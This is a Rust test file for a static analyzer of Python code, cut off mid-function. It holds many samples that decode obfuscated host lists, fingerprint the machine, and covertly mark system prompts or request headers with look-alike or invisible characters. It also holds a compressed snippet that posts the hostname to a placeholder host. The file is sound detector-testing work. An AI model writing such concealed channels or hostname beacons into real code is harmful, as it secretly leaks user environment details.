use assay_model::{Gap, Reading};

use super::with_ir;
use crate::{analyze_source, node};

/// The lists of texts that evaluation makes of a text.
fn evaluated(text: &str) -> Vec<Vec<String>> {
    with_ir(text, 0, None, |ir, _| {
        ir.evaluated
            .iter()
            .map(|one| one.texts.clone())
            .collect::<Vec<_>>()
    })
    .map(|(lists, complaint)| {
        assert_eq!(complaint.errors, 0, "{}", complaint.first);
        lists
    })
    .unwrap_or_else(|_| panic!("taken for Python 2:\n{text}"))
}

const HOSTS: &[&str] = &[
    "alpha.example",
    "beta.test",
    "gamma.example.org",
    "delta.example.com",
];

/// Decoders that all give [`HOSTS`].
const DECODERS: &[(&str, &str)] = &[
    (
        "base64",
        r###"import base64
DATA = 'YWxwaGEuZXhhbXBsZSxiZXRhLnRlc3QsZ2FtbWEuZXhhbXBsZS5vcmcsZGVsdGEuZXhhbXBsZS5jb20='
NAMES = base64.b64decode(DATA).decode().split(',')
"###,
    ),
    (
        "reversed base64",
        r###"from base64 import b64decode as d
names = d('=02bj5SZsBXbhhXZuEGdsVGZscmcv5SZsBXbhhXZuEWbtF2ZsQ3clRnLhRXZixSZsBXbhhXZuEGawxWY'[::-1]).decode('utf-8').split(',')
"###,
    ),
    (
        "base85",
        r###"import base64
names = base64.b85decode('VQg?{VJ>BOVQp}1Wh`Q4bYU)ZWpi{aXJKt^VJ>BOVQp}1WiD@WXDno8Y;<8RWq4t2aBO8RV{dH').decode().split(',')
"###,
    ),
    (
        "ascii85",
        r###"import base64
names = base64.a85decode('@;Kmr@4l,9@;Tt"ALq;%FC?eDATMrEB45Xo@4l,9@;Tt"AM.nAB.RS)Cij)<AU%X#E,9)<@rH2').decode().split(',')
"###,
    ),
    (
        "base32",
        r###"import base64
names = base64.b32decode('MFWHA2DBFZSXQYLNOBWGKLDCMV2GCLTUMVZXILDHMFWW2YJOMV4GC3LQNRSS433SM4WGIZLMORQS4ZLYMFWXA3DFFZRW63I=').decode().split(',')
"###,
    ),
    (
        "fromhex xor",
        r###"KEY = 91
names = bytes(b ^ KEY for b in bytes.fromhex('3a372b333a753e233a362b373e77393e2f3a752f3e282f773c3a36363a753e233a362b373e7534293c773f3e372f3a753e233a362b373e75383436')).decode().split(',')
"###,
    ),
    (
        "shifted characters",
        r###"def plain(codes):
    return ''.join(chr(c - 3) for c in codes)
names = plain([100, 111, 115, 107, 100, 49, 104, 123, 100, 112, 115, 111, 104, 47, 101, 104, 119, 100, 49, 119, 104, 118, 119, 47, 106, 100, 112, 112, 100, 49, 104, 123, 100, 112, 115, 111, 104, 49, 114, 117, 106, 47, 103, 104, 111, 119, 100, 49, 104, 123, 100, 112, 115, 111, 104, 49, 102, 114, 112]).split(',')
"###,
    ),
    (
        "join map chr",
        r###"names = ''.join(map(chr, [97, 108, 112, 104, 97, 46, 101, 120, 97, 109, 112, 108, 101, 44, 98, 101, 116, 97, 46, 116, 101, 115, 116, 44, 103, 97, 109, 109, 97, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103, 44, 100, 101, 108, 116, 97, 46, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109])).split(',')
"###,
    ),
    (
        "rot13",
        r###"import codecs
names = codecs.decode('nycun.rknzcyr,orgn.grfg,tnzzn.rknzcyr.bet,qrygn.rknzcyr.pbz', 'rot13').split(',')
"###,
    ),
    (
        "zlib",
        r###"import zlib, base64
names = zlib.decompress(base64.b64decode('eJxLzCnISNRLrUjMLchJ1UlKLUnUK0ktLtFJT8zNhYvr5Rel66Sk5pQgRJLzcwGeGRZT')).decode().split(',')
"###,
    ),
    (
        "gzip",
        r###"import gzip, binascii
names = gzip.decompress(binascii.unhexlify('1f8b08000000000002034bcc29c848d44bad48cc2dc849d5494a2d49d42b492d2ed1494fcccd858bebe517a5eba4a4e694204492f373010d5d234a3b000000')).decode().split(',')
"###,
    ),
    (
        "bz2 lzma",
        r###"import bz2, lzma
from base64 import b64decode
names = bz2.decompress(lzma.decompress(b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQBLQlpoOTFBWSZTWYh9isgAAAaRgAAFPsbcQCAAVFDTTAARlE/RI3qj0k1eECe87JXBWiw62hc3EP13mIvTQU86wjvBdyRThQkIh9isgACHYQxXyoCFSgABZEwzFn1eH7bzfQEAAAAABFla'))).decode().split(',')
"###,
    ),
    (
        "repeating key",
        r###"from itertools import cycle
import base64
def undo(data, key=b'orchid'):
    return bytes(a ^ b for a, b in zip(base64.b64decode(data), cycle(key)))
names = undo('Dh4TAAhKCgoCBRkICl4BDR0FQQYGGx1ICBMOBQhKCgoCBRkIClwMGg5ICxcPHAhKCgoCBRkIClwABwQ=').decode().split(',')
"###,
    ),
    (
        "rolling xor",
        r###"def undo(text):
    state = 37
    out = bytearray()
    for c in bytes.fromhex(text):
        out.append(c ^ state)
        state = (state * 5 + c) % 256
    return out.decode()
names = undo('4491f214e14f512db788711a0d39c08f559b53b0e1063beaaff6847cb0eba10d3788711a0d3bcb8defbbca5529f6e14f512db788711a0d3bc79416').split(',')
"###,
    ),
    (
        "rc4",
        r###"import base64
def rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = []
    for b in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) % 256])
    return bytes(out)
names = rc4(b'meadow', base64.b64decode('r8Ui09XegiHaZL8WTZ/+nzRqu6KQCfvB8RheY2AdPi9kaVQvFL4ND1nlm5sVJcQNcTD88Pz94yEsBjA=')).decode().split(',')
"###,
    ),
    (
        "number",
        r###"N = 4640685294979862300241828504881280585430908072162695162665835601880235307883815055997564185125669842073082983588339995519478751253943933955949
names = N.to_bytes((N.bit_length() + 7) // 8, 'big').decode().split(',')
"###,
    ),
    (
        "json",
        r###"import json, base64
CONFIG = json.loads(base64.b64decode('eyJob3N0cyI6IFsiYWxwaGEuZXhhbXBsZSIsICJiZXRhLnRlc3QiLCAiZ2FtbWEuZXhhbXBsZS5vcmciLCAiZGVsdGEuZXhhbXBsZS5jb20iXSwgImsiOiAxfQ=='))
names = CONFIG['hosts']
"###,
    ),
    (
        "struct",
        r###"import struct
DATA = bytes.fromhex('4904540458045004490416044d04600449045504580454044d0414044a044d045c04490416045c044d045b045c0414044f04490455045504490416044d04600449045504580454044d04160457045a044f0414044c044d0454045c04490416044d04600449045504580454044d0416044b0457045504')
COUNT = 59
names = ''.join(chr(v - 1000) for v in struct.unpack('<%dH' % COUNT, DATA)).split(',')
"###,
    ),
    (
        "translate",
        r###"import string
MIX = 'qwertyuiopasdfghjklzxcvbnm'
TABLE = str.maketrans(MIX, string.ascii_lowercase)
names = 'qshiq.tbqdhst,wtzq.ztlz,uqddq.tbqdhst.gku,rtszq.tbqdhst.egd'.translate(TABLE).split(',')
"###,
    ),
    (
        "rotated array",
        r###"PARTS = ['gamma.example.org', 'delta.example.com', 'alpha.example', 'beta.test']
def turn(parts, n):
    parts = list(parts)
    for _ in range(n):
        parts.append(parts.pop(0))
    return parts
names = turn(PARTS, 2)
"###,
    ),
    (
        "filled by a loop",
        r###"import base64
RAW = base64.b64decode('YW1ya2UrY3hgb3NoYCpiZHZiKnFjc3UuZGVoa2EvZ3tlaHZsZCxsdmIqZGRud2UrY3hgb3NoYChjbm8=')
out = []
for index, byte in enumerate(RAW):
    out.append(chr(byte ^ (index % 7)))
names = ''.join(out).split(',')
"###,
    ),
    (
        "lazily",
        r###"_names = None

def names():
    global _names
    if _names is None:
        _names = [bytes(b ^ 77 for b in bytes.fromhex(part)).decode() for part in '2c213d252c6328352c203d2128-2f28392c6339283e39-2a2c20202c6328352c203d212863223f2a-292821392c6328352c203d2128632e2220'.split('-')]
    return _names

use(names())
"###,
    ),
    (
        "class",
        r###"import base64

class Box:
    KEY = 19

    def __init__(self):
        self.data = 'cn9je3I9dmtyfmN/dj9xdmdyPWd2YGc/dHJ+fnI9dmtyfmN/dj18YXQ/d3Z/Z3I9dmtyfmN/dj1wfH4='

    @staticmethod
    def undo(data, key):
        return bytes(b ^ key for b in data)

    def names(self):
        return self.undo(base64.b64decode(self.data), self.KEY).decode().split(',')

use(Box().names())
"###,
    ),
    (
        "reduce",
        r###"from functools import reduce
words = reduce(lambda text, code: text + chr(code >> 1), [194, 216, 224, 208, 194, 92, 202, 240, 194, 218, 224, 216, 202, 88, 196, 202, 232, 194, 92, 232, 202, 230, 232, 88, 206, 194, 218, 218, 194, 92, 202, 240, 194, 218, 224, 216, 202, 92, 222, 228, 206, 88, 200, 202, 216, 232, 194, 92, 202, 240, 194, 218, 224, 216, 202, 92, 198, 222, 218], '').split(',')
"###,
    ),
    (
        "every third",
        r###"names = 'axqlxqpxqhxqaxq.xqexqxxqaxqmxqpxqlxqexq,xqbxqexqtxqaxq.xqtxqexqsxqtxq,xqgxqaxqmxqmxqaxq.xqexqxxqaxqmxqpxqlxqexq.xqoxqrxqgxq,xqdxqexqlxqtxqaxq.xqexqxxqaxqmxqpxqlxqexq.xqcxqoxqmxq'[::3].split(',')
"###,
    ),
    (
        "single letters",
        r###"names = ['{}.{}'.format(a[::-1], b) for a, b in [('ahpla', 'example'), ('ateb', 'test'), ('ammag', 'example.org'), ('atled', 'example.com')]]
"###,
    ),
];

#[test]
fn decoders_are_evaluated() {
    let mut failures = Vec::new();
    for (name, text) in DECODERS {
        let lists = evaluated(text);
        if !lists.iter().any(|list| list == HOSTS) {
            failures.push(format!("{name}: {lists:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn decoded_lists_are_findings() {
    let mut failures = Vec::new();
    for (name, text) in DECODERS {
        let findings = analyze_source("x.py", text);
        let found = findings.iter().any(|finding| {
            finding.behaviour == "conceal.encoded-list"
                && finding.evidence.iter().any(|e| e.decoded == HOSTS)
        });
        if !found {
            let all: Vec<_> = findings.iter().map(|f| (&f.behaviour, &f.key)).collect();
            failures.push(format!("{name}: {all:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Programs that tell a fact about the host by concealed means.
const CHANNELS: &[(&str, &str)] = &[
    (
        "proxy host, base64 and xor, a quotation mark in a system prompt",
        r###"import base64
import os
from functools import lru_cache
from urllib.parse import urlparse

_DATA = "PDovPnU6NyszOnU+Izo2Kzc+dyspNCMidTk+Lzp1Lz4oL3cpPjc6InU8OjY2OnU+Izo2Kzc+dTQpPHc+Pzw+dT8+Ny86dT4jOjYrNz51ODQ2"


@lru_cache(maxsize=None)
def _known():
    raw = base64.b64decode(_DATA)
    return frozenset(bytes(b ^ 0x5B for b in raw).decode().split(","))


def _via():
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        return None
    return (urlparse(proxy).hostname or "").lower()


def mark():
    host = _via()
    return "\u02bc" if host in _known() else "'"


def system(model):
    return f"You are {model}. Don{mark()}t guess what the user wants; ask when the task is not clear."
"###,
    ),
    (
        "time zone, compressed list, a space in a request header",
        r###"import time, zlib, base64
import requests

ZONES = zlib.decompress(base64.b64decode("eJzzCg6p8QZiZ9eQmgAgDgwOAQBBdAaR")).decode().split("|")


class Client:
    def __init__(self, url):
        self.url = url
        self.listed = time.tzname[0] in ZONES

    def _agent(self):
        if self.listed:
            return "tool\u00a0client"
        return "tool client"

    def ask(self, text):
        return requests.post(self.url, json={"text": text}, headers={"X-Client": self._agent()}).json()
"###,
    ),
    (
        "base URL host, rolling key, suffix match, a zero-width character",
        r###"import os
import urllib.parse


def undo(text):
    state, out = 41, bytearray()
    for byte in bytes.fromhex(text):
        out.append(byte ^ state)
        state = (state * 3 + out[-1]) & 255
    return out.decode().split(" ")


HOSTS = undo("4e8373ec2e4f875d9f2c66630fbc952503dcb0a0927ddd1e805a6ff79c764273d41c8c56bb9308e56372c73e0bfe108d65aea3a7992e686f1dd88469ed9801bf856216ae634906f643aab2daeb21381ba6")


def odd():
    base = os.getenv("ALPHA_BASE_URL", "https://api.alpha.example")
    host = urllib.parse.urlsplit(base).netloc
    return any(host == one or host.endswith("." + one) for one in HOSTS)


def instructions():
    word = "user"
    if odd():
        word = "us\u200ber"
    return "Answer in the language of the {}, and keep answers short.".format(word)
"###,
    ),
    (
        "user name, character codes, a look-alike letter in a message",
        r###"import getpass


def plain(codes):
    return "".join(chr(code - 7) for code in codes).split(";")


NAMES = plain([116, 104, 115, 115, 118, 121, 128, 66, 123, 121, 108, 117, 123, 66, 118, 122, 106, 104, 121, 66, 126, 104, 115, 123, 108, 121])


def messages(question):
    name = getpass.getuser()
    match name.lower():
        case found if found in NAMES:
            letter = "\u0430"
        case _:
            letter = "a"
    system = "You are " + letter + " careful assistant who says what was changed."
    return [{"role": "system", "content": system}, {"role": "user", "content": question}]
"###,
    ),
    (
        "host name, rot13, a hyphen chosen by index, percent formatting",
        r###"import codecs
import socket

MACHINES = codecs.decode("ohvyqobk/ynoyncgbc/fnaqobk/ubarlcbg", "rot13").split("/")
DASH = ("-", "\u2010")


def prompt(task):
    listed = socket.gethostname().split(".")[0] in MACHINES
    dash = DASH[int(listed)]
    return "Work step%sby%sstep on %s and tell the user when it is done." % (dash, dash, task)
"###,
    ),
    (
        "locale, reversed text, try and except, a body of a request",
        r###"import json
import locale
import urllib.request

CODES = "RB_tp,ON_bn,RK_ok,PJ_aj"[::-1].split(",")


def tongue():
    try:
        return locale.getlocale()[0] or ""
    except ValueError:
        return ""


def send(question):
    end = "."
    if tongue() in CODES:
        end = "\uff0e"
    body = {"model": "large", "instructions": "Keep answers short" + end, "question": question}
    data = json.dumps(body).encode()
    request = urllib.request.Request("https://api.beta.example/v1", data=data)
    return urllib.request.urlopen(request).read()
"###,
    ),
    (
        "machine id, hashes by prefix, a loop, a field of an object",
        r###"import base64
from pathlib import Path

MARKS = [base64.b16decode(part).decode()[::-1] for part in "61613366.34636230.65643737.62613139".split(".")]


class State:
    def __init__(self):
        self.space = " "

    def look(self):
        machine = Path("/etc/machine-id").read_text().strip()
        for mark in MARKS:
            if machine.startswith(mark):
                self.space = "\u2009"

    def line(self):
        return self.space.join(["Say", "what", "you", "changed."])


def start(client):
    state = State()
    state.look()
    return client.messages.create(system="Be careful. " + state.line(), max_tokens=1024)
"###,
    ),
    (
        "network address, lookup in a dictionary, join",
        r###"import uuid

TABLE = {True: "\u2019", False: "'"}
PREFIXES = {int(part, 16) ^ 0x2F for part in "27 7d 23 73".split()}


def quote():
    return TABLE[(uuid.getnode() >> 40) in PREFIXES]


def rules():
    return " ".join(["Do not change the user" + quote() + "s files", "without asking first."])
"###,
    ),
    (
        "time zone of now, helper with arguments by name, decorator, lambda",
        r###"import datetime
from base64 import urlsafe_b64decode as load

pick = lambda listed, yes, no: yes if listed else no


def named(text, *, key):
    return [chr(ord(c) ^ key) for c in text]


ZONES = "".join(named(load(b"V05JF1ZOSRdKVF8XVE5J").decode("latin-1"), key=29)).split("\n")


def zone():
    now = datetime.datetime.now().astimezone()
    return now.tzname()


def greeting():
    apostrophe = pick(listed=zone() in ZONES, yes="\u02b9", no="'")
    return f"Today{apostrophe}s work is in the list below, one task a line."
"###,
    ),
    (
        "other tools and environment, bytes with translate, header of a session",
        r###"import os
import shutil
import httpx

FROM = bytes(range(97, 123))
TO = FROM[9:] + FROM[:9]
TOOLS = b"franbqjat-kdaybdrcn-vrcvyaxgh-oarmj".translate(bytes.maketrans(TO, FROM)).decode().split("-")


class Api:
    def __init__(self):
        self.client = httpx.Client(base_url="https://api.gamma.example")

    def ask(self, text):
        found = [name for name in TOOLS if shutil.which(name)]
        accept = "application/json" if not found else "application/json "
        self.client.headers["X-Accept"] = accept
        return self.client.post("/chat", json={"text": text})
"###,
    ),
    (
        "hash of the host name, a list of lines that grows by one under a test",
        r###"import hashlib
import socket

KNOWN = {"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb", "3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d"}


def listed():
    return hashlib.sha256(socket.gethostname().encode()).hexdigest() in KNOWN


def lines():
    parts = ["You are a careful assistant."]
    if listed():
        parts.append("\u200b")
    return "".join(parts) + " Keep answers short."
"###,
    ),
    (
        "user name, a letter replaced under a test",
        r###"import os

def prompt(task):
    text = "You are a helpful assistant who works on %s." % task
    if os.getlogin() in ("mallory", "trent"):
        text = text.replace("a", "\u0430", 1)
    return {"role": "system", "content": text}
"###,
    ),
];

/// Programs that do what is like it, in the open.
const TWINS: &[(&str, &str)] = &[
    (
        "a line more for those who want it",
        r###"import os


def lines():
    parts = ["You are a careful assistant."]
    if os.environ.get("LANG", "").startswith("ja"):
        parts.append("Answer in Japanese.")
    return " ".join(parts)
"###,
    ),
    (
        "a mirror by time zone, in the open",
        r###"import time
import requests

MIRRORS = {"JST": "asia.mirror.example", "CET": "eu.mirror.example"}


def index():
    host = MIRRORS.get(time.tzname[0], "mirror.example")
    return requests.get(f"https://{host}/simple/", headers={"X-Zone": time.tzname[0]})
"###,
    ),
    (
        "hosts that a proxy is not used for",
        r###"import os
from urllib.parse import urlparse
import requests

DIRECT = [one.strip().lower() for one in os.environ.get("NO_PROXY", "").split(",") if one.strip()]


def get(url):
    host = urlparse(url).hostname or ""
    bypass = any(host == one or host.endswith("." + one.lstrip(".")) for one in DIRECT)
    proxies = {} if bypass else {"https": os.environ.get("HTTPS_PROXY")}
    return requests.get(url, proxies=proxies)
"###,
    ),
    (
        "curly quotation marks when the user wants them",
        r###"import json
import time

with open("settings.json") as file:
    OPTIONS = json.load(file)


def prompt():
    mark = "\u2019" if OPTIONS.get("typographic") else "'"
    return f"Write the user{mark}s text. Times are in {time.tzname[0]}."
"###,
    ),
    (
        "a date in the user's own form",
        r###"import datetime
import locale

language = (locale.getlocale()[0] or "en_US")[:2]
form = "%m/%d/%Y" if language == "en" else "%d.%m.%Y"


def prompt():
    return f"The day is {datetime.date.today().strftime(form)}. Keep to the style of the project."
"###,
    ),
    (
        "a concealed list that decides about nothing but waiting",
        r###"import base64
import os
from urllib.parse import urlparse
import requests

SLOW = bytes(b ^ 0x33 for b in base64.b64decode("VFJHVh1SX0NbUh1WS1JeQ19WH0NBXEtKHVFWR1IdR1ZARx9BVl9SSh1UUl5eUh1WS1JeQ19WHVxBVB9WV1RWHVdWX0dSHVZLUl5DX1YdUFxe")).decode().split(",")


def patience():
    host = urlparse(os.environ.get("HTTPS_PROXY", "")).hostname
    return 60 if host in SLOW else 10


def send(body):
    return requests.post("https://api.alpha.example/v1", json=body, timeout=patience())
"###,
    ),
    (
        "the host in a message that the user reads",
        r###"import socket


def main():
    name = socket.gethostname()
    print(f"Running on {name}." if name else "Running on an unknown host.")
"###,
    ),
    (
        "retry with another host",
        r###"import os
import requests

HOSTS = [os.environ.get("ALPHA_BASE_URL", "https://api.alpha.example"), "https://backup.alpha.example"]


def send(body):
    for host in HOSTS:
        try:
            return requests.post(host + "/v1", json=body, headers={"User-Agent": "tool 1.0"})
        except requests.ConnectionError:
            continue
"###,
    ),
    (
        "a shell prompt by platform",
        r###"import os
import platform

shell = os.environ.get("SHELL", "")
if platform.system() == "Windows":
    line_end = "\r\n"
else:
    line_end = "\n"


def prompt(task):
    return "The shell is " + shell + "." + line_end + "Do this: " + task
"###,
    ),
    (
        "pictures and certificates in base64",
        r###"import base64

ICON = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
TABLE = bytes((i * 7 + 3) & 255 for i in range(256))
LETTERS = "".join(chr(code) for code in range(ord("a"), ord("z") + 1))
"###,
    ),
    (
        "telemetry with the time zone in plain sight",
        r###"import time
import platform
import requests


def report(event):
    body = {"event": event, "zone": time.tzname[0], "host": platform.node(), "verbose": "yes" if event else "no"}
    requests.post("https://telemetry.alpha.example/v1/events", json=body)
"###,
    ),
];

fn channels(text: &str) -> Vec<String> {
    analyze_source("x.py", text)
        .into_iter()
        .filter(|finding| finding.behaviour == "covert.channel")
        .map(|finding| finding.title)
        .collect()
}

/// Lists that nobody reads, and that meet the fact by a way of their own.
#[test]
fn what_is_gone_through_is_tried() {
    for test in [
        "re.match('^(?:' + '|'.join(re.escape(x) for x in names()) + ')$', here()) is not None",
        "Book()[here()]",
        "len([x for x in names() if len(x) == len(here()) and all(a == b for a, b in zip(x, here()))]) > 0",
    ] {
        let text = format!(
            "import base64, json, os, re, requests\n\n\
             def names():\n    raw = 'nrxxi5ltfzrw47dqmfzgs4zomv4gc3lqnrsxy4ljnztwiylpfzxgk5a'.upper()\n    \
             return base64.b32decode(raw + '=' * (-len(raw) % 8)).decode().split('|')\n\n\
             def here():\n    return os.environ.get('HTTPS_PROXY', '').lower()\n\n\
             class Book(dict):\n    def __missing__(self, key):\n        return any(key == x for x in names())\n\n\
             def run(ask):\n    far = {test}\n    \
             return requests.post('https://api.example.com/v1', data=json.dumps({{'max_tokens': 4096 | int(far), 'input': ask}}))\n"
        );
        assert_eq!(channels(&text).len(), 1, "{test}");
    }
}

#[test]
fn channels_are_found() {
    let missed: Vec<_> = CHANNELS
        .iter()
        .filter(|(_, text)| channels(text).is_empty())
        .map(|(name, text)| {
            let all: Vec<_> = analyze_source("x.py", text)
                .into_iter()
                .map(|f| format!("{} ({})", f.behaviour, f.key))
                .collect();
            format!("{name}: {all:?}")
        })
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn twins_are_no_channels() {
    let wrong: Vec<_> = TWINS
        .iter()
        .filter_map(|(name, text)| Some(format!("{name}: {}", channels(text).first()?)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn pictures_and_tables_are_not_encoded() {
    for (name, text) in TWINS {
        let wrong: Vec<_> = analyze_source("x.py", text)
            .into_iter()
            .filter(|finding| finding.behaviour.starts_with("conceal.encoded"))
            .map(|finding| finding.title)
            .collect();
        // One of them keeps a list encoded to no end that matters here.
        assert!(
            wrong.is_empty() || name.contains("concealed list"),
            "{name}: {wrong:?}"
        );
    }
}

fn behaviours(text: &str) -> Vec<String> {
    analyze_source("x.py", text)
        .into_iter()
        .map(|finding| format!("{} {}", finding.behaviour, finding.key))
        .collect()
}

fn gap(text: &str) -> (Reading, Option<Gap>, String) {
    let bytes = text.as_bytes();
    let own = [(0, bytes.len() as u64)];
    let read = node::read(
        bytes,
        &own,
        crate::node::Described {
            kind: "python",
            path: "x.py",
            container: false,
            map: None,
            subject: "",
        },
        node::Mode::Best,
        &mut crate::evaluate::here,
    );
    (read.reading, read.gap, read.detail)
}

#[test]
fn an_error_loses_its_statement_only() {
    let text = "import socket\nx = = 3\ndef f(:\n    pass\nname = socket.gethostname()\n";
    assert!(
        behaviours(text)
            .iter()
            .any(|b| b.starts_with("fingerprint.hostname"))
    );
    let (reading, gap, detail) = gap(text);
    assert_eq!((reading, gap), (Reading::Parsed, Some(Gap::Syntax)));
    assert!(detail.contains("complaints"), "{detail}");
}

#[test]
fn python_2_is_read_as_text() {
    for text in [
        "import os\nprint os.environ['ALPHA_MODE']\n",
        "import os\nif not os.getenv('ALPHA_MODE'):\n    raise ValueError, 'no mode'\n",
        "import os\nexec 'x = 1' in {}\nos.getenv('ALPHA_MODE')\n",
    ] {
        let (reading, gap, detail) = gap(text);
        assert_eq!(
            (reading, gap),
            (Reading::Lexical, Some(Gap::Syntax)),
            "{text}"
        );
        assert!(detail.contains("Python 2"), "{detail}");
        let found = behaviours(text);
        assert!(
            found.contains(&"reach.environment ALPHA_MODE".to_owned()),
            "{found:?}"
        );
    }
}

#[test]
fn deep_nesting_does_no_harm() {
    let deep = 50_000;
    let tail = "\nimport socket\nsocket.gethostname()\n";
    let texts = [
        format!("x = {}", vec!["a"; deep].join(" + ")),
        format!("x = {}1", "-".repeat(deep)),
        format!("x = {}1", "not ".repeat(deep)),
        format!("x = a{}", ".b()".repeat(deep)),
        format!("x = a{}", "[0]".repeat(deep)),
        format!("x = {}0", "lambda: ".repeat(deep / 5)),
        format!("x = {}1", "1 if a else ".repeat(deep / 5)),
        format!("x = {}1", "2 ** ".repeat(deep)),
        format!("x = {}{}", "(".repeat(9_000), ")".repeat(9_000)),
        format!("x = {}{}", "[".repeat(9_000), "]".repeat(9_000)),
        format!(
            "if a:\n    pass\n{}",
            "elif b:\n    pass\n".repeat(deep / 5)
        ),
        (0..500).fold(String::new(), |text, depth| {
            format!("{text}{}if a:\n", " ".repeat(depth))
        }) + &" ".repeat(500)
            + "pass",
        format!("x = a{}", " if b else c".repeat(10)),
        format!("x = '' {}", "'a' ".repeat(deep)),
        format!(
            "match x:\n case {}y{}: pass",
            "(".repeat(3_000),
            ")".repeat(3_000)
        ),
    ];
    for text in texts {
        let start: String = text.chars().take(30).collect();
        let found = behaviours(&format!("{text}{tail}"));
        assert!(
            found.iter().any(|b| b.starts_with("fingerprint.hostname")),
            "{start}: {found:?}"
        );
    }
}

#[test]
fn evaluation_has_limits() {
    for text in [
        "import base64\ndata = base64.b64decode('aGVsbG8gd29ybGQ=')\nwhile True:\n    data = data + data\nprint(data)\n",
        "def f(n):\n    return f(n + 1)\nx = f(chr(1))\n",
        "def f(n):\n    return f(n - 1) + f(n - 2)\nx = f(60)\n",
        "x = ['a' * 8_000_000 for _ in range(10**9)]\n",
        "x = 9 ** 9 ** 9 ** 9\n",
        "x = (1 << 60_000) ** 60_000\n",
        "x = list(range(10**15))[0]\n",
        "a = [1]\na.append(a)\nb = [a] * 1000\nc = [b] * 1000\nd = [c] * 1000\nx = str(d == d)\n",
        "x = 'a'.replace('a', 'b' * 4_000_000).replace('b', 'c' * 4_000_000)\n",
        "from itertools import cycle, count\nx = list(cycle([1]))\ny = list(count())\n",
        "x = sorted([(1, 'a'), ('b', 2), (None, 3)], key=lambda t: t[0])\n",
        "class A:\n    x = x\n    def y(self):\n        return self.y()\nA().y()\n",
        "x = y\ny = x\nz = (lambda f: f(f))(lambda f: f(f))\n",
    ] {
        // It ends, and gives nothing.
        let lists = evaluated(text);
        assert!(
            lists.iter().all(|list| list.iter().all(|t| t.len() < 100)),
            "{text}"
        );
    }
}

#[test]
fn a_limit_is_in_the_coverage() {
    let text = "def undo(data):\n    out = []\n    while True:\n        out = [chr(ord(c) ^ 7) for c in data]\n    return out\nx = undo('dfklpqjb')\n";
    let (reading, gap, detail) = gap(text);
    assert_eq!((reading, gap), (Reading::Parsed, Some(Gap::Limit)));
    assert!(detail.contains("evaluating"), "{detail}");
}

#[test]
fn evaluation_reaches_nothing() {
    for text in [
        "import os\nx = chr(65) + os.environ['HOME'] + 'abcdefgh'\n",
        "x = open('/etc/passwd').read() + chr(65)\n",
        "import time\nx = chr(65) * int(time.time())\n",
        "import random\nx = chr(random.randrange(65, 91)) + 'abcdefgh'\n",
        "x = (lambda: 0).__class__.__bases__[0].__subclasses__()[3]('abcdefgh')\n",
        "x = eval('chr(65) + chr(66)' + 'abcdefgh')\n",
        "import subprocess\nx = subprocess.check_output('abcdefgh' + chr(65))\n",
    ] {
        assert!(
            evaluated(text)
                .iter()
                .all(|list| list.iter().all(|t| !t.contains("root"))),
            "{text}"
        );
        let (_, gap, _) = gap(text);
        assert_eq!(gap, None, "{text}");
    }
}

#[test]
fn names_are_led_back_to_the_library() {
    for (text, expected) in [
        (
            "from os import environ as e\nx = e['ALPHA_MODE']\n",
            "reach.environment ALPHA_MODE",
        ),
        (
            "import os as o\nx = o.environ.copy().get('ALPHA_MODE')\n",
            "reach.environment ALPHA_MODE",
        ),
        (
            "from os import *\nx = getenv('ALPHA_MODE')\n",
            "reach.environment ALPHA_MODE",
        ),
        (
            "import os\nkey = ''.join(chr(c - 1) for c in [66, 77, 81, 73, 66, 96, 78, 80, 69, 70])\nx = os.environ[key]\n",
            "reach.environment ALPHA_MODE",
        ),
        (
            "x = __import__('o' + 's').getppid()\n",
            "fingerprint.processes os.getppid()",
        ),
        (
            "import sys\nx = sys.modules['os'].getppid()\n",
            "fingerprint.processes os.getppid()",
        ),
        (
            "import os\nx = getattr(os, 'getp' + 'pid')()\n",
            "fingerprint.processes os.getppid()",
        ),
        (
            "import os\nx = os.__dict__['getppid']()\n",
            "fingerprint.processes os.getppid()",
        ),
        (
            "import importlib\nx = importlib.import_module('os').getppid()\n",
            "fingerprint.processes os.getppid()",
        ),
        (
            "run = globals()['exec']\nrun(text)\n",
            "conceal.dynamic-code builtins.exec()",
        ),
        (
            "class A:\n    def __init__(self):\n        import socket\n        self.s = socket\n    def n(self):\n        return self.s.gethostname()\n",
            "fingerprint.hostname socket.gethostname()",
        ),
        (
            "try:\n    import socket\nexcept ImportError:\n    socket = None\nx = socket.gethostname()\n",
            "fingerprint.hostname socket.gethostname()",
        ),
    ] {
        let found = behaviours(text);
        assert!(found.iter().any(|b| b == expected), "{text}{found:?}");
    }
    // A module of the package is not that of the library.
    let found = behaviours(
        "from .os import getppid\nfrom . import socket\nx = getppid(), socket.gethostname()\n",
    );
    assert!(
        !found.iter().any(|b| b.starts_with("fingerprint")),
        "{found:?}"
    );
}

/// Code that asks a server, compressed; `layers` times over.
fn packed(layers: usize) -> String {
    use base64::Engine;
    use std::io::Write;
    let mut text = "import socket, requests\ndef start():\n    return requests.post('https://gate.alpha.example/v1', json={'host': socket.gethostname()})\nstart()\n".to_owned();
    for _ in 0..layers {
        let mut writer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        writer.write_all(text.as_bytes()).unwrap();
        let bytes = writer.finish().unwrap();
        let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
        text = format!(
